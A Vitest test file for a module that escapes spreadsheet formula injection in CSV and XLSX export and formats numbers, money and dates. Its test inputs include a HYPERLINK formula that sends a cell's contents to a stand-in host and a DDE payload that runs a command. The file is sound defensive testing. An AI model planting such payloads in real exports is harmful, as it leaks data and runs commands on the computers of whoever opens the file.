import { describe, expect, it } from 'vitest';
import { csvCell, currencyFormat, dateCell, decimalCell, moneyCell, neutraliseText, xlsxCell, xlsxFormat } from './spreadsheet-cells.js';

describe('spreadsheet cells', () => {
  const attacks = ['=HYPERLINK("http://x.example/"&A2,"Click me")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

  it('prefix text starting with =, +, -, @, tab or carriage return with a single quote', () => {
    for (const text of attacks) {
      expect(neutraliseText(text)).toBe(`'${text}`);
      expect(csvCell(text)).toBe(`'${text}`);
      expect(xlsxCell(text)).toBe(`'${text}`);
    }
  });

  it('leave other text alone, a formula trigger later in the text included', () => {
    for (const text of ['Qingdao Port Group', '上合能谷', 'a=b', ' =1', "'quoted", '2025-07-18', '', 'SW52ZXN0bWVudDox']) {
      expect(csvCell(text)).toBe(text);
      expect(xlsxCell(text)).toBe(text);
    }
  });

  it('keep numbers numbers, negative ones included, and decimal text exact in CSV', () => {
    expect(csvCell(-42)).toBe(-42);
    expect(xlsxCell(-42)).toBe(-42);
    expect(csvCell(decimalCell('-1500.25'))).toBe('-1500.25');
    expect(xlsxCell(decimalCell('-1500.25'))).toBe(-1500.25);
    expect(csvCell(decimalCell('60000000000'))).toBe('60000000000');
    expect(xlsxCell(decimalCell('60000000000'))).toBe(60_000_000_000);
  });

  it('empty for null, and never trust a "decimal" that is not one', () => {
    expect(csvCell(null)).toBe('');
    expect(xlsxCell(undefined)).toBeNull();
    expect(decimalCell(null)).toBeNull();
    expect(csvCell(decimalCell('-1+1'))).toBe("'-1+1");
    expect(xlsxCell(decimalCell('=1+1'))).toBe("'=1+1");
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('write money as numbers in their currency’s format, with its own decimals', () => {
    expect(xlsxCell(moneyCell('60000000000', 'CNY'))).toBe(60_000_000_000);
    expect(csvCell(moneyCell('1500.25', 'USD'))).toBe('1500.25');
    expect(xlsxFormat(moneyCell('1500.25', 'USD'))).toBe('#,##0.00 "USD"');
    expect(currencyFormat('JPY')).toBe('#,##0 "JPY"');
    expect(currencyFormat('KWD')).toBe('#,##0.000 "KWD"');
    expect(moneyCell(null, 'USD')).toBeNull();
    expect(xlsxFormat(moneyCell('=1+1', 'USD'))).toBeUndefined();
  });

  it('write days as real dates in XLSX (midnight UTC) and as ISO text in CSV; anything else stays neutralised text', () => {
    expect(xlsxCell(dateCell('2025-07-18'))).toEqual(new Date(Date.UTC(2025, 6, 18)));
    expect(xlsxFormat(dateCell('2025-07-18'))).toBe('yyyy-mm-dd');
    expect(csvCell(dateCell('2025-07-18'))).toBe('2025-07-18');
    expect(dateCell(null)).toBeNull();
    expect(xlsxCell({ date: '=NOW()' })).toBe("'=NOW()");
    expect(xlsxFormat('Signed')).toBeUndefined();
  });
});
